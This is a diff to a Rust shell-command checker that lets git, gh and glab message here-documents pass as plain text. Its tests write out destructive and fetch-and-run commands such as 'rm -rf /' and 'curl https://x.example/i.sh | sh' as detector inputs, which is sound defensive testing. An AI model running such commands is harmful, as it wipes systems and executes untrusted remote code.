@@ -4,20 +4,21 @@
 
 use super::said::{is_read_quietly, writes};
 use super::shell::{SHELLS, is_wrapper, program};
-use bartizan_pipeline::shell::{Command, Redirect, Script};
+use bartizan_pipeline::shell::{Command, Redirect, Script, Word};
 use std::ops::Range;
 
 /// Longest word that ends one.
 const LONGEST_END: usize = 64;
 
-/// The word that ends the here-document which a line begins for a shell, or for `cat`, which shows it to somebody.
+/// The word that ends the here-document which a line begins for a shell, or for who shows it to somebody.
 pub(super) fn delimiter(line: &str) -> Option<&str> {
     let at = memchr::memmem::find(line.as_bytes(), b"<<")?;
     let (before, behind) = (line.get(..at)?, line.get(at.saturating_add(2)..)?);
     let is_even = |quote: u8| memchr::memchr_iter(quote, before.as_bytes()).count().is_multiple_of(2);
     let command = before.rsplit([';', '|', '&', '(', '{', '`']).next()?;
     let reads = |word: &str| word == "cat" || SHELLS.contains(&program(word).as_str());
-    if !is_even(b'"') || !is_even(b'\'') || !command.split_ascii_whitespace().any(reads) {
+    let words = || command.split_ascii_whitespace();
+    if !is_even(b'"') || !is_even(b'\'') || !words().any(reads) && !takes_a_message(words()) {
         return None;
     }
     let word = behind.strip_prefix('-').unwrap_or(behind).trim_start_matches([' ', '\t']);
@@ -27,6 +28,25 @@ pub(super) fn delimiter(line: &str) -> Option<&str> {
         .take_while(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-' | b'.' | b'!'))
         .count();
     word.get(..length).filter(|word| !word.is_empty() && word.len() <= LONGEST_END)
+}
+
+/// Whether a command writes down as a message what it is fed: of a commit or a tag, or what stands in a review, a report or a release.
+///
+/// Source: git-commit(1) and git-tag(1), `--file`; the manual of GitHub's `gh`, `--body-file` and `--notes-file`.
+fn takes_a_message<'w>(words: impl Iterator<Item = &'w str>) -> bool {
+    let mut words = words.skip_while(|word| is_wrapper(word));
+    let (Some(name), Some(verb)) = (words.next(), words.next()) else { return false };
+    let says = match name {
+        "git" => matches!(verb, "commit" | "tag" | "notes"),
+        "gh" | "glab" => matches!(verb, "pr" | "mr" | "issue" | "release"),
+        _ => false,
+    };
+    let mut before = "";
+    says && words.any(|word| {
+        let option = std::mem::replace(&mut before, word);
+        matches!(word, "-F-" | "--file=-" | "--body-file=-" | "--notes-file=-")
+            || word == "-" && matches!(option, "-F" | "--file" | "--body-file" | "--notes-file")
+    })
 }
 
 /// Whether a line ends a here-document.
@@ -66,7 +86,17 @@ fn is_shown(text: &str, script: &Script, (index, command): (usize, &Command), li
     let body = lines.body.clone().and_then(|body| text.get(body)).unwrap_or_default();
     let fills = !lines.target.quoted && (body.contains("$(") || body.contains('`'));
     let mut words = command.words.iter().skip_while(|word| is_wrapper(&program(&word.text)));
-    let is_cat = words.next().is_some_and(|name| name.text == "cat" && name.is_literal());
+    let is_cat = words.next().is_some_and(|name| name.text == "cat" && name.is_literal())
+        && words.all(|word| word.text.starts_with('-'));
+    // What is written down may be read back by a shell.
+    let is_shell = |one: &Command| {
+        one.words.iter().any(|word| SHELLS.contains(&program(&word.text).as_str()) || word.text == "eval")
+    };
+    let is_message = || {
+        command.words.iter().all(Word::is_literal)
+            && !script.commands.iter().any(is_shell)
+            && takes_a_message(command.words.iter().map(|word| word.text.as_str()))
+    };
     // What is in braces or brackets may go to a shell as a whole.
     let before = text.get(..command.span.start).unwrap_or_default();
     // A pipe may go on behind the lines, and a channel with a number of its own may lead anywhere.
@@ -74,10 +104,9 @@ fn is_shown(text: &str, script: &Script, (index, command): (usize, &Command), li
     let goes_on = head.trim_end().ends_with(['|', '\\', '&']);
     let is_channel =
         |one: &Redirect| one.operator.contains(">&") && !matches!(one.target.text.as_str(), "1" | "2");
-    is_cat
+    (is_cat || is_message())
         && !goes_on
         && !command.redirects.iter().any(is_channel)
-        && words.all(|word| word.text.starts_with('-'))
         && !fills
         && !before.contains(['{', '('])
         && script.unclosed.is_none()
@@ -104,6 +133,8 @@ mod tests {
             ("cat <<E | sh", Some("E")),
             ("sudo bash -s -- <<-'END'", Some("END")),
             ("ssh host bash << \"X_1\"", Some("X_1")),
+            ("git commit -F - <<'EOF'", Some("EOF")),
+            ("git apply - <<'EOF'", None),
             ("bash <<< 'ls'", None),
             ("std::cout << endl;", None),
             ("x = 1 << shift", None),
@@ -130,6 +161,10 @@ mod tests {
             "cat <<E\nhello\nE\nrm -rf /",
             "cat <<E\nrm -rf /",
             "eval \"$(cat <<'E'\nrm -rf /\nE\n)\"",
+            "git commit -F - <<E\n$(rm -rf /)\nE",
+            "git commit -F - <<'E'\nx\nE\nrm -rf /",
+            "git commit -F msg <<'E'\nx\nrm -rf /\nE",
+            "git commit -F - <<'E' && git log -1 --format=%B | sh\nrm -rf /\nE",
         ] {
             assert_eq!(worst(text), Some(Grade::Grave), "{text}");
         }
@@ -143,6 +178,11 @@ mod tests {
             "cat <<-E | grep -v root\n\trm -rf /\n\tE",
             "cat <<E >&2\nrm -rf /\nE",
             "cat <<E > notes.py\nimport urllib.request\nexec(plan)\nE",
+            "git commit -F - <<'EOF'\ndocs: warn of rm -rf /\nEOF",
+            "git commit -q --file=- <<EOF\nfix: no rm -rf / in cleanup\n\nIt was curl x | sh.\nEOF",
+            "gh issue create --title \"x y\" --body-file - <<'EOF'\nIt ran\n\n    rm -rf /\nEOF",
+            "gh release create v1 --notes-file - <<'EOF'\nRemoves curl https://x.example/i.sh | sh\nEOF",
+            "glab mr create -F - <<'EOF'\nrm -rf /\nEOF",
         ] {
             assert_eq!(worst(text), None, "{text}");
         }
